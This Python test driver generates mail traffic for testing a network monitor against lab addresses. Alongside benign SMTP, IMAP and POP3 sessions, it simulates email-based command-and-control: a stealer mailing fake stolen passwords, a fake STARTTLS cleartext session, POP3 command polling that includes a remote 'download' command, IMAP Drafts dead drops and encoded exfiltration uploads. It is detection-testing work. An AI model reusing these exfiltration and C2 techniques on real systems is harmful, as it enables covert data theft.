#!/usr/bin/python3
"""Real mail clients, run inside the pe2e-client namespace: swaks, curl and Python's
smtplib/imaplib/poplib (and in lookalikes.py msmtp, mutt, fetchmail), each scenario from its own source address so its flows are easy to find.

    ip netns exec pe2e-client /usr/bin/python3 tests/e2e/clients.py STATE_DIR OUT.json

Writes what each scenario sent (the truth the tests compare postern's records with)."""
import base64
import email.message
import email.policy
import email.utils
import hashlib
import imaplib
import io
import json
import pathlib
import poplib
import random
import re
import smtplib
import socket
import ssl
import subprocess
import sys
import threading
import time
import zipfile

SERVER = "10.99.0.2"
C2_SERVER = "10.99.0.3"  # fake_servers.py: the attacker's own relay
PASSWORDS = {"alice@corp.example": "alice-Secr3t", "bob@corp.example": "bob-Secr3t",
             "carol@corp.example": "carol-Secr3t", "drop@partner.example": "drop-Secr3t",
             "drop2@partner.example": "drop2-Secr3t"}
MACHINE = "DESKTOP-AB12CD7"  # a default Windows host name, as stealers' EHLO shows
TLS = ssl.create_default_context()
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE  # the testbed's certificate is self-signed

_next_ip = iter(f"10.99.0.{i}" for i in range(11, 70))


def run_client(cmd, input=None, timeout=120):
    """Runs a client program; a failure carries the client's own output, not only its status."""
    p = subprocess.run(cmd, input=input, capture_output=True, timeout=timeout)
    if p.returncode != 0:
        out = (p.stdout or b"").decode(errors="replace")[-3000:]
        err = (p.stderr or b"").decode(errors="replace")[-3000:]
        raise RuntimeError(f"{' '.join(map(str, cmd))} exited {p.returncode}\nstdout:\n{out}\nstderr:\n{err}")
    return p


class BoundIMAP(imaplib.IMAP4):
    def __init__(self, src, host, port=143):
        self._src = src
        super().__init__(host, port, timeout=20)

    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), timeout, source_address=(self._src, 0))


class BoundIMAPS(imaplib.IMAP4_SSL):
    def __init__(self, src, host, port=993):
        self._src = src
        super().__init__(host, port, ssl_context=TLS, timeout=20)

    def _create_socket(self, timeout):
        sock = socket.create_connection((self.host, self.port), timeout, source_address=(self._src, 0))
        return self.ssl_context.wrap_socket(sock, server_hostname=self.host)


class BoundPOP3(poplib.POP3):
    def __init__(self, src, host, port=110):
        self._src = src
        self.host, self.port = host, port
        self._tls_established = False
        self.sock = socket.create_connection((host, port), 20, source_address=(src, 0))
        self.file = self.sock.makefile("rb")
        self._debugging = 0
        self.welcome = self._getresp()


class BoundPOP3S(poplib.POP3):
    """POP3 over implicit TLS (995) from a chosen source address (poplib.POP3_SSL cannot bind one)."""

    def __init__(self, src, host, port=995):
        self.host, self.port = host, port
        self._tls_established = True
        self.sock = TLS.wrap_socket(socket.create_connection((host, port), 20, source_address=(src, 0)),
                                    server_hostname=host)
        self.file = self.sock.makefile("rb")
        self._debugging = 0
        self.welcome = self._getresp()


def message(sender, to, subject, body, attachments=(), extra_headers=(), mailer=None):
    m = email.message.EmailMessage()
    m["From"] = sender
    m["To"] = ", ".join(to)
    m["Subject"] = subject
    m["Date"] = email.utils.formatdate(localtime=False)
    m["Message-ID"] = email.utils.make_msgid(domain="corp.example")
    if mailer:
        m["X-Mailer"] = mailer
    for k, v in extra_headers:
        m[k] = v
    m.set_content(body)
    for name, data, ctype in attachments:
        maintype, subtype = ctype.split("/")
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return m


def read_until_tagged(f, tag):
    """Reads IMAP responses from file `f` up to the one tagged `tag`, which must say OK."""
    while True:
        line = f.readline()
        if not line or line.startswith(tag + b" "):
            assert line and b" OK" in line, line
            return


def wait_mail(state_dir, user, count, timeout=20):
    local, domain = user.split("@")
    new = pathlib.Path(state_dir) / "mail" / domain / local / "Maildir" / "new"
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if new.exists() and len(list(new.iterdir())) >= count:
            return
        time.sleep(0.2)
    raise RuntimeError(f"{user}: {count} messages not delivered after {timeout}s")


class Run:
    def __init__(self, state_dir, keep_going=False):
        self.state_dir = state_dir
        self.scenarios = []
        self.keep_going = keep_going

    def attempt(self, step):
        """Runs one scenario; with keep_going a failure is kept with the scenario that failed."""
        if not self.keep_going:
            return step()
        before = len(self.scenarios)
        try:
            step()
        except Exception as e:
            failed = self.scenarios[before:]  # a wait between scenarios belongs to none
            for sc in failed:
                sc["error"] = f"{type(e).__name__}: {e}"

    def scenario(self, name, kind, protocol, port, **expect):
        s = {"name": name, "kind": kind, "protocol": protocol, "port": port, "src_ip": next(_next_ip),
             "expect": expect}
        self.scenarios.append(s)
        return s

    # -- benign ------------------------------------------------------------------------------
    def swaks_plain(self):
        s = self.scenario("smtp_swaks_plain", "benign", "smtp", 25, helo="ws-0423.corp.example",
                          mail_from="<alice@corp.example>", rcpt_to=["<bob@corp.example>"],
                          subject="Minutes of the Tuesday meeting")
        run_client(["swaks", "--server", SERVER, "--port", "25", "-li", s["src_ip"], "--helo", s["expect"]["helo"],
                        "--from", "alice@corp.example", "--to", "bob@corp.example",
                        "--header", f"Subject: {s['expect']['subject']}",
                        "--body", "Hi Bob,\n\nthe minutes are below. Next meeting on Tuesday.\n\nAlice\n"])

    def swaks_starttls_auth(self):
        s = self.scenario("smtp_swaks_starttls_auth", "benign", "smtp", 587, helo="ws-0424.corp.example",
                          starttls=True, hidden_subject="Salary review (confidential)")
        run_client(["swaks", "--server", SERVER, "--port", "587", "-li", s["src_ip"], "--helo", s["expect"]["helo"],
                        "--tls", "--auth", "PLAIN", "--auth-user", "alice@corp.example",
                        "--auth-password", PASSWORDS["alice@corp.example"],
                        "--from", "alice@corp.example", "--to", "bob@corp.example",
                        "--header", f"Subject: {s['expect']['hidden_subject']}"])

    def smtplib_auth_attachment(self):
        s = self.scenario("smtp_smtplib_auth_attachment", "benign", "smtp", 587, helo="ws-0425.corp.example",
                          mail_from="<alice@corp.example>", rcpt_to=["<bob@corp.example>"],
                          subject="Q3 report", attachments=["report-Q3.pdf"],
                          auth={"mechanism": "PLAIN", "user": "alice@corp.example"})
        pdf = b"%PDF-1.4\n" + bytes(random.Random(3).randrange(256) for _ in range(6000)) + b"\n%%EOF\n"
        m = message("Alice <alice@corp.example>", ["bob@corp.example"], "Q3 report",
                    "Bob, the Q3 report is attached.\n", [("report-Q3.pdf", pdf, "application/pdf")],
                    mailer="Microsoft Outlook 16.0")
        with smtplib.SMTP(SERVER, 587, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0), timeout=20) as c:
            c.ehlo()
            c.login("alice@corp.example", PASSWORDS["alice@corp.example"])  # PLAIN: first smtplib knows
            c.send_message(m)

    def curl_smtp(self):
        s = self.scenario("smtp_curl", "benign", "smtp", 25, mail_from="<alice@corp.example>",
                          rcpt_to=["<bob@corp.example>"], subject="Lunch on Friday?")
        body = (f"From: alice@corp.example\r\nTo: bob@corp.example\r\nSubject: {s['expect']['subject']}\r\n"
                f"Date: {email.utils.formatdate()}\r\nMessage-ID: <curl-1@corp.example>\r\n\r\nPizza?\r\n")
        run_client(["curl", "-sS", "--interface", s["src_ip"], f"smtp://{SERVER}:25/ws-0426.corp.example",
                        "--mail-from", "alice@corp.example", "--mail-rcpt", "bob@corp.example", "-T", "-"],
                       input=body.encode())

    def imap_read(self):
        s = self.scenario("imap_imaplib_read", "benign", "imap", 143, user="bob@corp.example",
                          mailboxes=["INBOX"], commands=["LOGIN", "SELECT", "FETCH", "LOGOUT"],
                          fetched_from=["Minutes of the Tuesday meeting", "Salary review (confidential)", "Q3 report", "Lunch on Friday?"])
        c = BoundIMAP(s["src_ip"], SERVER)
        c.login("bob@corp.example", PASSWORDS["bob@corp.example"])
        c.select("INBOX")
        c.fetch("1", "(BODY.PEEK[])")
        c.logout()

    def imap_two_devices(self):
        """One person's laptop and phone (two addresses, one account) both editing a draft in the
        shared Drafts folder, as real clients do: sync INBOX, read the draft the other saved, save
        a new version, delete the old one. Drafts shared by two clients, not a dead drop."""
        devices = [self.scenario(f"imap_two_devices_{d}", "benign", "imap", 143, user="carol@corp.example", sessions=3)
                   for d in ("laptop", "phone")]
        for i in range(6):
            c = BoundIMAP(devices[i % 2]["src_ip"], SERVER)
            c.login("carol@corp.example", PASSWORDS["carol@corp.example"])
            c.select("INBOX")
            c.uid("FETCH", "1:*", "(UID FLAGS)")
            c.select("Drafts")
            _, data = c.uid("SEARCH", None, "ALL")
            old = data[0].split()
            if old:
                c.uid("FETCH", old[-1], "(BODY.PEEK[])")
            draft = message("carol@corp.example", ["board@corp.example"], "Notes for the board meeting",
                            f"Version {i} of my notes: budget, hiring, the office move.\n")
            c.append("Drafts", r"(\Draft \Seen)", None, draft.as_bytes())
            for uid in old:
                c.uid("STORE", uid, "+FLAGS", r"(\Deleted)")
            c.expunge()
            c.logout()
            time.sleep(0.4)

    def pop3_read(self):
        s = self.scenario("pop3_poplib_read", "benign", "pop3", 110, user="bob@corp.example",
                          commands=["USER", "PASS", "STAT", "LIST", "RETR", "QUIT"],
                          retrieved_from=["Minutes of the Tuesday meeting", "Salary review (confidential)", "Q3 report", "Lunch on Friday?"])
        c = BoundPOP3(s["src_ip"], SERVER)
        c.user("bob@corp.example")
        c.pass_(PASSWORDS["bob@corp.example"])
        c.stat()
        c.list()
        c.retr(1)
        c.quit()

    def curl_imap_pop3(self):
        s = self.scenario("imap_curl", "benign", "imap", 143, user="bob@corp.example", mailboxes=["INBOX"])
        run_client(["curl", "-sS", "--interface", s["src_ip"], "-u", f"bob@corp.example:{PASSWORDS['bob@corp.example']}",
                        f"imap://{SERVER}/INBOX;UID=1", "-o", "/dev/null"])
        s = self.scenario("pop3_curl", "benign", "pop3", 110, user="bob@corp.example")
        run_client(["curl", "-sS", "--interface", s["src_ip"], "-u", f"bob@corp.example:{PASSWORDS['bob@corp.example']}",
                        f"pop3://{SERVER}/1", "-o", "/dev/null"])

    def imap_pop3_starttls(self):
        s = self.scenario("imap_starttls", "benign", "imap", 143, starttls=True)
        c = BoundIMAP(s["src_ip"], SERVER)
        c.starttls(ssl_context=TLS)
        c.login("bob@corp.example", PASSWORDS["bob@corp.example"])
        c.select("INBOX")
        c.logout()
        s = self.scenario("pop3_stls", "benign", "pop3", 110, starttls=True)
        c = BoundPOP3(s["src_ip"], SERVER)
        c.stls(context=TLS)
        c.user("bob@corp.example")
        c.pass_(PASSWORDS["bob@corp.example"])
        c.stat()
        c.quit()

    # -- one attachment through every path: SMTP submission, POP3 RETR, IMAP FETCH; and a sent
    # copy with its own attachment uploaded by IMAP APPEND. fileinfo digests are checked against
    # these (test_files.py).
    def keep_sent(self, name, data):
        sent_dir = getattr(self, "sent_dir", None)
        if sent_dir:
            sent_dir.mkdir(exist_ok=True)
            (sent_dir / name).write_bytes(data)

    def attachment_paths(self):
        pdf = b"%PDF-1.5\n" + bytes(random.Random(11).randrange(256) for _ in range(20000)) + b"\n%%EOF\n"
        sheet = b"PK\x03\x04" + bytes(random.Random(12).randrange(256) for _ in range(9000))
        self.keep_sent("survey-2026.pdf", pdf)
        self.keep_sent("figures.xlsx", sheet)
        files = {"survey-2026.pdf": hashlib.sha256(pdf).hexdigest()}
        s = self.scenario("smtp_attachment_to_carol", "benign", "smtp", 587, helo="ws-0427.corp.example",
                          mail_from="<alice@corp.example>", rcpt_to=["<carol@corp.example>"],
                          subject="Site survey", attachments=["survey-2026.pdf"], files=files,
                          auth={"mechanism": "PLAIN", "user": "alice@corp.example"})
        m = message("Alice <alice@corp.example>", ["carol@corp.example"], "Site survey",
                    "Carol, the survey is attached.\n", [("survey-2026.pdf", pdf, "application/pdf")],
                    mailer="Microsoft Outlook 16.0")
        with smtplib.SMTP(SERVER, 587, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0), timeout=20) as c:
            c.ehlo()
            c.login("alice@corp.example", PASSWORDS["alice@corp.example"])
            c.send_message(m)
        wait_mail(self.state_dir, "carol@corp.example", 1)
        s = self.scenario("pop3_retr_attachment", "benign", "pop3", 110, user="carol@corp.example", files=files)
        c = BoundPOP3(s["src_ip"], SERVER)
        c.user("carol@corp.example")
        c.pass_(PASSWORDS["carol@corp.example"])
        c.retr(1)
        c.quit()
        sent = message("Carol <carol@corp.example>", ["alice@corp.example"], "Re: Site survey",
                       "Thanks, figures attached.\n", [("figures.xlsx", sheet, "application/vnd.openxmlformats-"
                                                        "officedocument.spreadsheetml.sheet")])
        literal = re.sub(rb"\r\n|\r|\n", b"\r\n", sent.as_bytes())  # as imaplib sends it
        self.keep_sent("appended.eml", literal)
        s = self.scenario("imap_fetch_and_append_attachment", "benign", "imap", 143, user="carol@corp.example",
                          files=dict(files, **{"figures.xlsx": hashlib.sha256(sheet).hexdigest()}),
                          appended_message=hashlib.sha256(literal).hexdigest())
        c = BoundIMAP(s["src_ip"], SERVER)
        c.login("carol@corp.example", PASSWORDS["carol@corp.example"])
        c.select("INBOX")
        c.fetch("1", "(BODY.PEEK[])")
        c.append("Sent", r"(\Seen)", None, literal)
        c.logout()

    # -- C2-like -----------------------------------------------------------------------------
    def stealer_exfil(self):
        subject = f"PW_jsmith/{MACHINE}"
        s = self.scenario("c2_smtp_stealer_exfil", "c2", "smtp", 587, helo=MACHINE,
                          mail_from="<drop@partner.example>", rcpt_to=["<drop@partner.example>"], subject=subject,
                          attachments=["passwords.txt"], auth={"mechanism": "LOGIN", "user": "drop@partner.example"},
                          rules=[9100101, 9100201, 9100202])
        report = (f"Time: 11/27/2026 10:02:11\nUser Name: jsmith\nComputer Name: {MACHINE}\n"
                  "OSFullName: Microsoft Windows 10 Pro\nCPU: Intel(R) Core(TM) i5-8250U\nRAM: 8072.43 MB\n")
        creds = "".join(f"Host: https://portal{i}.corp.example\nUsername: jsmith\nPassword: hunter{i}\n\n"
                        for i in range(20)).encode()
        m = message("drop@partner.example", ["drop@partner.example"], subject, report,
                    [("passwords.txt", creds, "text/plain")])
        with smtplib.SMTP(SERVER, 587, local_hostname=MACHINE, source_address=(s["src_ip"], 0), timeout=20) as c:
            c.ehlo()
            c.user, c.password = "drop@partner.example", PASSWORDS["drop@partner.example"]
            c.auth("LOGIN", c.auth_login)
            c.send_message(m)

    def fake_starttls(self):
        # Both ends are the attacker's: STARTTLS is accepted and the session carries on in
        # cleartext, so a monitor that trusts the upgrade stops reading at the 220.
        s = self.scenario("c2_smtp_fake_starttls", "c2", "smtp", 25, helo="ws-0999.corp.example",
                          mail_from="<bot@c2.example>", rcpt_to=["<tasks@c2.example>"], subject="beacon 17",
                          detectors=[9200019], anomalies=["smtp.starttls_cleartext_continues"])
        body = ("From: bot@c2.example\r\nTo: tasks@c2.example\r\nSubject: beacon 17\r\n\r\n"
                "host=ws-0999 uid=501 ok\r\n.\r\n")
        with socket.create_connection((C2_SERVER, 25), 20, source_address=(s["src_ip"], 0)) as c:
            f = c.makefile("rwb")

            def say(line, replies=1):
                if line is not None:
                    f.write(line.encode() + b"\r\n")
                    f.flush()
                for _ in range(replies):
                    r = f.readline()
                    while r[3:4] == b"-":  # a multi-line reply
                        r = f.readline()

            say(None)  # greeting
            say("EHLO " + s["expect"]["helo"])
            say("STARTTLS")
            say("EHLO " + s["expect"]["helo"])
            say("MAIL FROM:" + s["expect"]["mail_from"])
            say("RCPT TO:" + s["expect"]["rcpt_to"][0])
            say("DATA")
            f.write(body.encode())
            f.flush()
            f.readline()
            say("QUIT")

    def pop3_polling(self):
        # The operator queues two commands as mail to the drop box; the implant polls by POP3,
        # retrieves and deletes them, then polls an empty box.
        seed = self.scenario("c2_smtp_command_queue", "c2", "smtp", 25, helo="ops.partner.example",
                             mail_from="<ops@partner.example>", rcpt_to=["<drop@partner.example>"],
                             subjects=["exec: ipconfig /all", "download: http://10.99.0.2/x.bin"],
                             rules=[])  # 9100603 is for fetched messages: it fires on the POP3 side
        with smtplib.SMTP(SERVER, 25, local_hostname="ops.partner.example", source_address=(seed["src_ip"], 0), timeout=20) as c:
            for subj in seed["expect"]["subjects"]:
                c.send_message(message("ops@partner.example", ["drop@partner.example"], subj, "--\n"))
        wait_mail(self.state_dir, "drop@partner.example", 3)  # and the stealer's report
        s = self.scenario("c2_pop3_polling", "c2", "pop3", 110, user="drop@partner.example", sessions=3,
                          commands=[["USER", "PASS", "STAT", "RETR", "DELE", "QUIT"]] * 3,
                          retrieved_from=[f"PW_jsmith/{MACHINE}", "exec: ipconfig /all",
                                          "download: http://10.99.0.2/x.bin"],
                          rules=[9100603])
        for _ in range(3):
            c = BoundPOP3(s["src_ip"], SERVER)
            c.user("drop@partner.example")
            c.pass_(PASSWORDS["drop@partner.example"])
            c.stat()
            c.retr(1)
            c.dele(1)
            c.quit()
            time.sleep(0.3)

    def tls_pollers(self):
        """Implants that poll a mailbox over implicit TLS every ~1.5 s (±10 %), on their own timer
        each: all the tap sees is a series of short TLS sessions from one host, on 993, 995 and
        465 (that one mails a check-in).
        14 polls: a tap that comes up during the first still sees the 12 the detector needs."""
        imaps = self.scenario("c2_imaps_beacon", "c2", "tls", 993, sessions=14, detectors=[9200003])
        pop3s = self.scenario("c2_pop3s_beacon", "c2", "tls", 995, sessions=14, detectors=[9200003])
        smtps = self.scenario("c2_smtps_beacon", "c2", "tls", 465, sessions=14, detectors=[9200003])

        def imap_poll():
            c = BoundIMAPS(imaps["src_ip"], SERVER)
            c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
            c.select("INBOX")
            c.logout()

        def pop3_poll():
            c = BoundPOP3S(pop3s["src_ip"], SERVER)
            c.user("drop@partner.example")
            c.pass_(PASSWORDS["drop@partner.example"])
            c.stat()
            c.quit()

        def smtp_poll():  # a check-in mail over SMTPS (implicit TLS, 465)
            with smtplib.SMTP_SSL(SERVER, 465, local_hostname="ws-0434.corp.example", context=TLS,
                                  source_address=(smtps["src_ip"], 0), timeout=20) as c:
                c.login("alice@corp.example", PASSWORDS["alice@corp.example"])
                c.sendmail("alice@corp.example", ["drop@partner.example"], b"Subject: ok\r\n\r\nok\r\n")

        def implant(poll, seed, errors):
            rng, t0 = random.Random(seed), time.monotonic()
            try:
                for k in range(14):  # poll k at t0 + 1.5 k s (±10 %), whatever the last one took
                    time.sleep(max(0.0, t0 + 1.5 * k + rng.uniform(-0.15, 0.15) - time.monotonic()))
                    poll()
            except Exception as e:
                errors.append(e)

        errors = []
        threads = [threading.Thread(target=implant, args=(poll, seed, errors))
                   for poll, seed in ((imap_poll, 11), (pop3_poll, 12), (smtp_poll, 13))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        if errors:
            raise errors[0]

    def imap_dead_drop(self):
        blob = base64.b64encode(bytes(random.Random(7).randrange(256) for _ in range(600))).decode()
        s = self.scenario("c2_imap_drafts_dead_drop", "c2", "imap", 143, user="drop@partner.example", sessions=2,
                          mailboxes=["Drafts"], subject="cmd: upload C:\\Users\\jsmith\\Documents",
                          commands=[["LOGIN", "APPEND", "LOGOUT"],
                                    ["LOGIN", "SELECT", "FETCH", "STORE", "EXPUNGE", "LOGOUT"]],
                          rules=[9100603, 9100604])
        draft = message("drop@partner.example", ["drop@partner.example"], s["expect"]["subject"], blob + "\n")
        c = BoundIMAP(s["src_ip"], SERVER)  # operator leaves a draft
        c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
        c.append("Drafts", r"(\Draft)", None, draft.as_bytes())
        c.logout()
        time.sleep(0.3)
        c = BoundIMAP(s["src_ip"], SERVER)  # implant reads and deletes it
        c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
        c.select("Drafts")
        c.fetch("1", "(BODY[])")
        c.store("1", "+FLAGS", r"(\Deleted)")
        c.expunge()
        c.logout()

    # -- an implant uploads loot to Drafts as one base64 line of 8,000 characters: IMAP has no
    # line limit and Dovecot stores it; the file's digest and extraction must not go blind.
    def long_line_upload(self):
        blob = bytes(random.Random(13).randrange(256) for _ in range(6000))
        self.keep_sent("stash.bin", blob)
        s = self.scenario("c2_imap_append_one_long_base64_line", "c2", "imap", 143, user="drop@partner.example",
                          files={"stash.bin": hashlib.sha256(blob).hexdigest()})
        raw = (b"From: drop@partner.example\r\nTo: drop@partner.example\r\nSubject: notes\r\n"
               b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
               b"--b1\r\nContent-Type: text/plain\r\n\r\nnotes\r\n"
               b"--b1\r\nContent-Type: application/octet-stream\r\n"
               b"Content-Disposition: attachment; filename=\"stash.bin\"\r\n"
               b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(blob) + b"\r\n--b1--\r\n")
        c = BoundIMAP(s["src_ip"], SERVER)
        c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
        c.append("Drafts", r"(\Draft)", None, raw)
        c.logout()

    def opaque_uploads(self):
        """Exfiltration by IMAP APPEND of a few hundred KB of stolen data, encrypted (random bytes)
        and base64-encoded, with no human text: one raw-socket implant session with LITERAL+
        (non-synchronising) literals to Sent, and imaplib sessions of ~80 KB each (60 KB base64-encoded) to Drafts (each
        under the session threshold). The look-alike: a person's client saving the sent copy of
        a mail with a 300 KB zip and a real text part."""
        rng = random.Random(17)
        one = self.scenario("c2_imap_literal_plus_exfil", "c2", "imap", 143, user="drop@partner.example",
                            detectors=[9200001])
        blobs = [base64.encodebytes(bytes(rng.randrange(256) for _ in range(45000))) for _ in range(3)]
        sock = socket.create_connection((SERVER, 143), 20, source_address=(one["src_ip"], 0))
        f = sock.makefile("rb")

        f.readline()  # greeting
        sock.sendall(b'a1 LOGIN "drop@partner.example" "' + PASSWORDS["drop@partner.example"].encode() + b'"\r\n')
        read_until_tagged(f, b"a1")
        for i, blob in enumerate(blobs):
            msg = (b"From: drop@partner.example\r\nSubject: sync " + str(i).encode() + b"\r\n\r\n" +
                   blob.replace(b"\n", b"\r\n"))
            tag = b"a%d" % (i + 2)
            sock.sendall(tag + b" APPEND Sent (\\Seen) {%d+}\r\n" % len(msg) + msg + b"\r\n")
            read_until_tagged(f, tag)
        sock.sendall(b"a9 LOGOUT\r\n")
        read_until_tagged(f, b"a9")
        sock.close()

        several = self.scenario("c2_imap_drafts_exfil_sessions", "c2", "imap", 143, user="drop@partner.example",
                                sessions=4, detectors=[9200001])
        for i in range(4):
            loot = bytes(rng.randrange(256) for _ in range(60000))
            m = message("drop@partner.example", ["drop@partner.example"], f"part {i}", "")
            m.clear_content()
            m.set_content(loot, maintype="application", subtype="octet-stream", filename=f"p{i}.dat")
            c = BoundIMAP(several["src_ip"], SERVER)
            c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
            c.append("Drafts", r"(\Draft)", None, m.as_bytes())
            c.logout()
            time.sleep(0.3)

        person = self.scenario("imap_sent_copy_with_zip", "benign", "imap", 143, user="alice@corp.example")
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:  # photos do not compress
            for n in range(3):
                z.writestr(f"site-{n}.jpg", b"\xff\xd8\xff\xe0" + bytes(rng.randrange(256) for _ in range(100000)))
        zipped = buf.getvalue()
        m = message("alice@corp.example", ["bob@corp.example"], "Site photos",
                    "Hi Bob,\n\nhere are the photos from the site visit, zipped. Tell me if any are missing.\n\nAlice\n",
                    attachments=[("photos.zip", zipped, "application/zip")])
        c = BoundIMAP(person["src_ip"], SERVER)
        c.login("alice@corp.example", PASSWORDS["alice@corp.example"])
        c.append("Sent", r"(\Seen)", None, m.as_bytes())
        c.logout()

    def odd_port(self):
        helo = "WIN-3K7Q9ZT1ABC"
        s = self.scenario("c2_smtp_odd_port", "c2", "smtp", 2626, helo=helo, mail_from="<drop@partner.example>",
                          rcpt_to=["<alice@corp.example>"], subject="Status report", rules=[9100201])
        run_client(["swaks", "--server", SERVER, "--port", "2626", "-li", s["src_ip"], "--helo", helo,
                        "--from", "drop@partner.example", "--to", "alice@corp.example",
                        "--header", "Subject: Status report", "--body", "beacon 1\n"])

    def encoded_header(self):
        blob = base64.b64encode(bytes(random.Random(11).randrange(256) for _ in range(300))).decode()
        s = self.scenario("c2_smtp_x_header_blob", "c2", "smtp", 25, helo="ws-0999.corp.example",
                          mail_from="<bob@corp.example>", rcpt_to=["<alice@corp.example>"], subject="Re: invoice",
                          x_header=blob, rules=[9100303])
        m = message("bob@corp.example", ["alice@corp.example"], "Re: invoice", "see attached\n")
        # Written raw, on one line, as an implant writes it (Python's email package would fold it
        # into RFC 2047 encoded words).
        raw = f"X-Data: {blob}\r\n".encode() + m.as_bytes(policy=email.policy.SMTP)
        with smtplib.SMTP(SERVER, 25, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0), timeout=20) as c:
            c.sendmail("bob@corp.example", ["alice@corp.example"], raw)

    def run_all(self):
        for step in (self.swaks_plain, self.swaks_starttls_auth, self.smtplib_auth_attachment, self.curl_smtp,
                     self.stealer_exfil, self.odd_port, self.encoded_header, self.fake_starttls,
                     lambda: wait_mail(self.state_dir, "bob@corp.example", 4),
                     self.imap_read, self.imap_two_devices, self.pop3_read, self.curl_imap_pop3, self.imap_pop3_starttls,
                     self.pop3_polling, self.imap_dead_drop, self.attachment_paths, self.long_line_upload,
                     self.opaque_uploads, self.tls_pollers):
            self.attempt(step)
        import covert, lookalikes  # here: they import this module's helpers
        for step in lookalikes.ALL + covert.ALL:
            self.attempt(lambda: step(self))

if __name__ == "__main__":
    # --keep-going (inline testbed): a scenario that fails (its session cut by a verdict) is
    # recorded in the scenario and the next one runs.
    keep_going = "--keep-going" in sys.argv
    args = [a for a in sys.argv[1:] if a != "--keep-going"]
    run = Run(args[0], keep_going=keep_going)
    run.sent_dir = pathlib.Path(args[1]).parent / "sent"  # the attachments as sent (test_files.py)
    error = None
    try:
        run.run_all()
    except Exception as e:  # report what ran; the test fails on the error
        error = f"{type(e).__name__}: {e}"
    pathlib.Path(args[1]).write_text(json.dumps({"scenarios": run.scenarios, "error": error,
                                                     "passwords": list(PASSWORDS.values())}, indent=1))
    sys.exit(1 if error else 0)
